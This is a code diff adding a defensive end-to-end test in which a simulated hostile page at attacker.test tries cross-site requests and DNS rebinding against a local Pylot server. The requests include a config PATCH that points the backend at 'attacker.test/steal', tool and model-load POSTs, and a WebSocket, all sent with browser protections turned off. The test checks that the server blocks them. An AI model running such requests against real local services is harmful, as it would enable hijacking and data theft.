@@ -3,7 +3,7 @@
 //
 //   node e2e/console.mjs SCENARIO --url http://127.0.0.1:PORT --out DIR [--key KEY] [--value N] [--model ID]
 //
-// SCENARIO: pages | settings | pull | playground | login. Screenshots go to DIR. The last line printed
+// SCENARIO: pages | settings | pull | playground | login | attacker. Screenshots go to DIR. The last line printed
 // is a JSON object with what was seen; the exit status is 0 when the scenario's own checks passed.
 
 import { mkdirSync, mkdtempSync, rmSync } from 'node:fs'
@@ -38,7 +38,7 @@ function check(condition, message) {
 }
 
 /** A fresh browser with its own scratch folder (HOME, TMPDIR), so nothing lands in the real home. */
-async function launch() {
+async function launch(extraFlags = []) {
   const scratch = mkdtempSync(join(tmpdir(), 'pylot-web-e2e-'))
   for (const key of ['HOME', 'TMPDIR', 'XDG_CONFIG_HOME', 'XDG_CACHE_HOME', 'XDG_DATA_HOME']) {
     mkdirSync(join(scratch, key), { recursive: true })
@@ -55,7 +55,7 @@ async function launch() {
   process.env.TMPDIR = env.TMPDIR
   const browser = await chromium.launch({
     executablePath: process.env.CHROMIUM ?? '/usr/bin/chromium',
-    args: FLAGS,
+    args: [...FLAGS, ...extraFlags],
     env,
     timeout: 60_000,
   })
@@ -105,7 +105,70 @@ async function visit(page, url, path) {
 
 const shot = (page, out, name) => page.screenshot({ path: join(out, `${name}.png`), fullPage: true })
 
+// What a hostile page tries against the server: in attacker.test's page, a JSON PATCH of the config (a
+// CORS preflight), text/plain and form POSTs (no preflight), and a WebSocket; then, as DNS rebinding does,
+// the server reached under the attacker's own name. The browser's own guard against pages reaching local
+// servers (Local Network Access) is turned off: Pylot must hold by itself, as with browsers that lack it.
+const ATTACKER_ORIGIN = 'http://attacker.test'
+const REBIND_NAME = 'rebind.test'
+const ATTACKER_FLAGS = [
+  `--host-resolver-rules=MAP ${REBIND_NAME} 127.0.0.1`,
+  '--disable-features=LocalNetworkAccessChecks,PrivateNetworkAccessSendPreflights,BlockInsecurePrivateNetworkRequests',
+]
+
+async function attackFromPage(target) {
+  const tries = {}
+  const body = JSON.stringify({ backend: { url: 'http://attacker.test/steal' }, generation: { max_tokens: 3 } })
+  try {
+    await fetch(`${target}/v1/config`, { method: 'PATCH', headers: { 'content-type': 'application/json' }, body })
+    tries.patchJson = 'read'
+  } catch {
+    tries.patchJson = 'blocked'
+  }
+  for (const [name, path, type] of [
+    ['postText', '/v1/config', 'text/plain'],
+    ['loadModel', '/v1/models/load', 'text/plain'],
+    ['toolForm', '/v1/tools/read_file', 'application/x-www-form-urlencoded'],
+  ]) {
+    try {
+      await fetch(`${target}${path}`, { method: 'POST', mode: 'no-cors', headers: { 'content-type': type }, body })
+      tries[name] = 'sent'
+    } catch {
+      tries[name] = 'blocked'
+    }
+  }
+  tries.websocket = await new Promise((resolve) => {
+    const ws = new WebSocket(`${target.replace('http', 'ws')}/ws/completions`)
+    ws.onopen = () => resolve('open')
+    ws.onerror = () => resolve('refused')
+    setTimeout(() => resolve('timeout'), 10_000)
+  })
+  return tries
+}
+
 const scenarios = {
+  async attacker(browser, args) {
+    const context = await browser.newContext()
+    await context.route(`${ATTACKER_ORIGIN}/**`, (route) =>
+      route.fulfill({ status: 200, contentType: 'text/html', body: '<!doctype html><title>cat pictures</title>' }),
+    )
+    const statuses = []
+    context.on('response', (r) => {
+      if (r.url().startsWith(args.url)) statuses.push({ method: r.request().method(), path: new URL(r.url()).pathname, status: r.status() })
+    })
+    const page = await context.newPage()
+    await page.goto(`${ATTACKER_ORIGIN}/`)
+    const tries = await page.evaluate(attackFromPage, args.url)
+    const port = new URL(args.url).port
+    const rebound = await page.goto(`http://${REBIND_NAME}:${port}/v1/config`)
+    const reboundText = await rebound.text()
+    const wsRebound = await page.evaluate(attackFromPage, `http://${REBIND_NAME}:${port}`)
+    check(tries.websocket !== 'open' && wsRebound.websocket !== 'open', 'a WebSocket from the page was opened')
+    check(tries.patchJson !== 'read', 'the page read the answer to its PATCH')
+    check(rebound.status() === 421, `the rebound name got HTTP ${rebound.status()}`)
+    return { tries, statuses, rebound: { status: rebound.status(), text: reboundText }, wsRebound }
+  },
+
   /** Every page loads and settles without a console error. */
   async pages(browser, args) {
     const { page, problems, unavailable } = await openPage(browser, args)
@@ -248,7 +311,7 @@ async function main() {
   if (!scenario) throw new Error(`unknown scenario ${args.scenario}; one of ${Object.keys(scenarios).join(', ')}`)
   mkdirSync(args.out, { recursive: true })
   const started = Date.now()
-  const { browser, close } = await launch()
+  const { browser, close } = await launch(args.scenario === 'attacker' ? ATTACKER_FLAGS : [])
   let result
   let ok = false
   let error = null
